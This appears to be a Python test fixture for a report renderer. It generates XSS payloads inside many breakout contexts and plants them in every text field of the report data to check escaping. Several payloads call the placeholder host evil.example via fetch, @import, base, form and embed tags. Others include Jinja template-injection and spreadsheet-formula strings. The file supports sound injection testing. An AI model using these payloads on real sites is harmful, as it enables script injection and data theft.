"""Strings that break out of text, attributes, styles, scripts, templates or drawings: every payload in every context."""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path
from typing import Any, Final

import pandas as pd

from arseg.report import Findings

_CALLS: Final = ("alert(1)", "fetch('//evil.example')", "top.location='//evil.example'")
PAYLOADS: Final = (
    *(f"<script>{call}</script>" for call in _CALLS),
    *(f"<img src=x onerror={call}>" for call in _CALLS),
    *(f"<svg/onload={call}>" for call in _CALLS),
    *(f"<a href=javascript:{call}>x</a>" for call in _CALLS),
    *(f"<details open ontoggle={call}>" for call in _CALLS),
    *(f"<input autofocus onfocus={call}>" for call in _CALLS),
    *(
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=//evil.example>",
        "<embed src=//evil.example>",
    ),
    *(
        "<link rel=stylesheet href=//evil.example>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=0>",
    ),
    *(
        "<style>*{display:none}</style>",
        "<style>@import '//evil.example'</style>",
        "<form action=//evil.example><button>",
    ),
    *(
        "<video src=//evil.example autoplay>",
        "<audio src=x onerror=alert(1)>",
        "<math><mi xlink:href=javascript:alert(1)>",
    ),
    *(
        "<svg><use href=//evil.example#x>",
        "<svg><animate onbegin=alert(1)>",
        "<svg><foreignObject><body onload=alert(1)>",
    ),
    *(
        "<marquee onstart=alert(1)>",
        "<body onload=alert(1)>",
        "<template><script>alert(1)</script></template>",
    ),
    *("javascript:alert(1)", "onmouseover=alert(1)", "{{ cycler.__init__.__globals__ }}", "{% raw %}"),
    *('=HYPERLINK("//evil.example")', "<slot onslotchange=alert(1)>"),
)
CONTEXTS: Final = (
    *(
        "{}",
        '">{}',
        "'>{}",
        "`>{}",
        ">{}<",
        "<!--{}-->",
        "--><!--{}",
        "<![CDATA[{}]]>",
        "]]>{}",
        "</td>{}<td>",
    ),
    *(
        "</title>{}",
        "</style>{}<style>",
        "</script>{}<script>",
        "</textarea>{}",
        "</table></main>{}",
        "</svg>{}<svg>",
    ),
    *(
        '" onclick="{}',
        "' onclick='{}",
        '" style="x:{}',
        'x" autofocus onfocus="{}" y="',
        "&lt;{}&gt;",
        "&#x3c;{}",
    ),
    *(
        "\\u003c{}",
        "%3C{}",
        "{}%00",
        "\u202e{}",
        "\u2066{}\u2069",
        "\u200b{}\u200b",
        "\ufeff{}",
        "\x00{}",
        "\x0b{}",
        "\x1b[31m{}",
    ),
    *("a\n{}", "a\r\n{}", "\t{}", "\u2028{}", "${{{}}}", "#{{{}}}"),
    *("O'Brien & Söhne {}", "名前 {}", "x" * 200 + "{}", "{}" + "&" * 20),
)


def hostile_strings() -> list[str]:
    """Return every payload in every context, and the strings that were found by hand."""
    made = [context.replace("{}", payload, 1) for context in CONTEXTS for payload in PAYLOADS]
    found = json.loads(Path(__file__).with_name("hostile.json").read_text(encoding="utf-8"))
    return list(dict.fromkeys([*made, *found]))


# Text columns of frames whose every row the page can show; the figures' frames are planted in batches elsewhere.
COLUMNS: Final = {
    "headline": ("label", "note", "definition"),
    "segments": ("segment", "treatment"),
    "profiles": ("segment",),
    "moves": ("from_segment", "to_segment"),
    "accuracy": ("model",),
    "worklist": ("customer_id", "name", "segment", "stage", "treatment", "why"),
    "quality": ("severity", "code", "message"),
}
SINGLE: Final = ("title", "experiment", "policy", "in_force", "identification", "version")


def planted_everywhere(ordinary: Findings, strings: list[str], size: int) -> tuple[Findings, list[str]]:
    """Return findings with so many strings in every text column, each marked by its place, and all that was planted.

    Every column starts where the one before ended; with as many rows as strings each column holds them all.
    """
    planted: list[str] = []
    rows, places = range(size), []

    def text(place: str, row: int) -> str:
        if place not in places:
            places.append(place)
        string = strings[(row + size * places.index(place)) % len(strings)]
        planted.append(f"{string}\N{MIDDLE DOT}{place}{row}")
        return planted[-1]

    frames: dict[str, Any] = {name: _frame(ordinary, name, size, text) for name in COLUMNS}
    assert ordinary.checked is not None
    source, age = ordinary.checked["sources"][0], ordinary.checked["freshness"][0]
    checked = {
        **ordinary.checked,
        "sources": [
            {**source, "source": text("source", row), "reasons": {text("reason", row): 1}} for row in rows
        ],
        "freshness": [{**age, "table": text("table", row)} for row in rows],
        "restatements": {"sentences": [text("moved", row) for row in rows]},
    }
    stamps = tuple(
        {"text": text("stamp", row), "strong": "", "level": strings[row % len(strings)]} for row in rows
    )
    return dataclasses.replace(
        ordinary,
        **frames,
        **{field: text(field, row) for row, field in enumerate(SINGLE)},
        names=True,
        measures=None,
        notes=tuple(text("note", row) for row in rows),
        checked=checked,
        definitions=tuple((text("term", row), text("meaning", row)) for row in rows),
        stamps=stamps,
        reproduce={text("key", row): [text("line", row)] for row in rows},
    ), planted


def _frame(ordinary: Findings, name: str, size: int, text: Any) -> pd.DataFrame:
    frame = getattr(ordinary, name)
    frame = pd.concat([frame] * (size // len(frame) + 1), ignore_index=True).head(size)
    if name == "headline":
        frame["history"] = [[] for _ in range(size)]
    if name == "worklist":
        frame["rank"] = range(1, size + 1)
    return frame.assign(
        **{each: [text(f"{name}.{each}", row) for row in range(size)] for each in COLUMNS[name]}
    )
